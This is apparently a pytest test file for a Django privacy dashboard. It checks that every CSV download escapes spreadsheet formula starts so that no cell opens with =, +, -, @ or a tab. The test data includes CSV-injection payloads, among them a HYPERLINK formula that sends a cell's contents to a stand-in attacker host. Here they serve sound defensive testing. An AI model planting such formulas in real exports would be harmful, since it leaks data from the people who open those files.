"""Every CSV a person downloads from the dashboard is written by the one formula-safe
writer (runtime.csv_writer): no cell starts a spreadsheet formula."""

import csv
import io
from datetime import date

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from access.roles import Role
from dashboard.charts import CHARTS
from disposal.carriers import register_carrier
from disposal.models import CarrierKind, Processor
from disposal.processors import save_processor
from leads import services
from leads.models import CaptureMethod
from runtime.csv_writer import FORMULA_STARTS

pytestmark = pytest.mark.django_db(databases="__all__")

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+SUM(1,2)", "-2+3", "@cmd", "\tx=1"]


def _csv_routes(patterns=None, prefix="") -> list[tuple[str, object]]:
    """Every route of the project that answers a .csv file, walked from the URLconf."""
    found = []
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            found += _csv_routes(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern) and ".csv" in route:
            found.append((route, pattern))
    return found


def _urls() -> list[str]:
    urls = []
    for route, _pattern in _csv_routes():
        if "<slug:slug>" in route:
            urls += ["/" + route.replace("<slug:slug>", slug) for slug in CHARTS]
        else:
            assert "<" not in route, f"a CSV route this test cannot fill: {route}"
            urls.append("/" + route)
    return urls


@pytest.fixture
def formula_data():
    for text in (text for text in FORMULAS if "@" not in text):  # "@" is refused there
        register_carrier(kind=CarrierKind.BACKUP_MEDIUM, label=text, location=text, actor="staff:1")
    save_processor(
        processor=Processor(
            name=FORMULAS[0],
            agreement_reference=FORMULAS[1],
            agreement_signed_on=date(2024, 1, 1),
            categories=["profile"],
            webhook_url="https://postco.example/hook",
        ),
        webhook_secret="s3cret",
    )
    services.capture_lead(
        contact={"email": "formula@example.org"},
        purposes=["analytics"],
        source=FORMULAS[3],
        method=CaptureMethod.IMPORT,
        channel=FORMULAS[3],
        actor="staff:1",
    )


def test_the_walk_finds_every_csv_download():
    urls = _urls()
    assert "/dashboard/privacy/records.csv" in urls
    assert {f"/dashboard/metrics/{slug}.csv" for slug in CHARTS} <= set(urls)


def test_no_cell_of_any_csv_download_starts_a_formula(client, make_staff, formula_data):
    staff = {role: make_staff(role) for role in Role}
    seen = ""
    for url in _urls():
        for role in Role:
            client.force_login(staff[role], backend="django.contrib.auth.backends.ModelBackend")
            response = client.get(url)
            if response.status_code == 200:
                break
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv")
        assert "no-store" in response["Cache-Control"], url
        text = response.content.decode()
        seen += text
        for row in csv.reader(io.StringIO(text)):
            starts = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
            assert not starts, (url, starts)
    # The hostile values did reach the files, neutralized (carrier labels, processor names
    # and agreements in the records of processing; the lead source in its chart).
    for start in ("'=HYPERLINK", "'+SUM(1,2)", "'-2+3", "'@cmd"):
        assert start in seen


def test_the_writer_neutralizes_every_formula_start_and_keeps_numbers():
    from runtime.csv_writer import formula_safe_writer

    out = io.StringIO()
    formula_safe_writer(out).writerow(["=1", "+1", "-1", "@x", "\tx", "\rx", "plain", -5, 2.5])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain", "-5", "2.5"]
